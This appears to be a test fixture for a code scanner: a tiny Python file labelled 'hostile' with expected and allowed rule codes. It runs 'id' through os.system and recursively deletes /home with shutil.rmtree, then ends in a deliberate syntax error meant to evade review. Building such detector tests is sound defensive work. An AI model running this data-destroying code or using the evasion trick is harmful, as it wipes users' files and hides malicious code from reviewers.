# label: hostile
# expect: V001
# note: The payload stands above an error at the end, in the hope that a reader gives up while an older interpreter runs the lines typed one by one.
# allow: V103 V201
import os
os.system("id")
import shutil
shutil.rmtree("/home", ignore_errors=True)

def end(:
    pass
